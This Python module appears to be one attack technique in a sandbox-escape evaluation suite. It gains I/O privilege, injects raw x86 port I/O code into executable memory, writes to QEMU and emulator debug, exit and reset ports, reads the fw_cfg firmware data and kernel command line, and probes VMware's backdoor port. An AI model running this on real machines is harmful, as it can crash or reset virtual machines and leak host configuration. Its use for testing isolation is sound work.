"""A machine has ports that its firmware and its debugger use, and emulators have some of their own."""

import ctypes
import mmap
import os
from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BLOCKED, HOST_SECRET, Technique

TECHNIQUE = Technique(
    tries="Write to ports of emulators' debug, exit, reset and firmware devices, and ask for the door of another hypervisor.",
    claim="G1",
    defences=("jail",),
    stopped_by=("guest:",),
    goals=(HOST_SECRET,),
    policies=(BLOCKED,),
    alone=True,
    dies=True,
    blank="what is not there does not answer: the machine has no such devices",
)
_IOPL = 172  # the system call's number; glibc's own goes with it
_OUT = bytes.fromhex("89fa 89f0 ee c3")  # mov edx, edi; mov eax, esi; out dx, al; ret
_OUT_WORD = bytes.fromhex("89fa 89f0 66ef c3")  # the same with out dx, ax
_IN = bytes.fromhex("89fa 31c0 ec c3")  # mov edx, edi; xor eax, eax; in al, dx; ret
# push rbx; mov eax, "VMXh"; mov ecx, 10; xor ebx, ebx; mov edx, 0x5658; in eax, dx; mov eax, ebx; pop rbx; ret
_DOOR = bytes.fromhex("53 b868584d56 b90a000000 31db ba58560000 ed 89d8 5b c3")


def attack(case: Case, what: Any) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(_IOPL, 3):
        raise OSError(ctypes.get_errno(), f"iopl: {os.strerror(ctypes.get_errno())}")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"".join(code.ljust(64, b"\xcc") for code in (_OUT, _OUT_WORD, _IN, _DOOR)))
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    out, out_word = (ctypes.CFUNCTYPE(None, ctypes.c_uint, ctypes.c_uint)(start + at) for at in (0, 64))
    take = ctypes.CFUNCTYPE(ctypes.c_uint, ctypes.c_uint)(start + 128)
    door = ctypes.CFUNCTYPE(ctypes.c_uint)(start + 192)

    def item(key: int, size: int) -> bytes:
        """Of the firmware's configuration, where there is one."""
        out_word(0x510, key)
        return bytes(take(0x511) & 0xFF for _ in range(size))

    ports = {0x501: 1, 0xF4: 1, 0x402: 0x78, 0x510: 0, 0xB2: 1, 0xB3: 1, 0x80: 1, 0x600: 1, 0x604: 0, 0xCF9: 0}
    for port, value in ports.items():
        out(port, value)
    signature = item(0, 4)
    names = []
    if signature == b"QEMU":
        count = min(int.from_bytes(item(0x19, 4), "big"), 64)
        listed = item(0x19, 4 + 64 * count)[4:]
        for entry in (listed[at : at + 64] for at in range(0, len(listed), 64)):
            size, key = int.from_bytes(entry[:4], "big"), int.from_bytes(entry[4:6], "big")
            names.append(entry[8:].rstrip(b"\0").decode(errors="replace"))
            case.got(item(key, min(size, 65_536)))
        case.got(item(0x15, 4096))  # the kernel's command line
    magic = door()
    case.did(f"{len(ports)} ports written; the firmware's says {signature.hex()} and has {names}, the other hypervisor's {magic:#x}"[:390])
    if magic == 0x564D5868:
        raise RuntimeError("a device answers that the machine is not meant to have")
    case.refused("the machine runs on, and nothing of the host came")
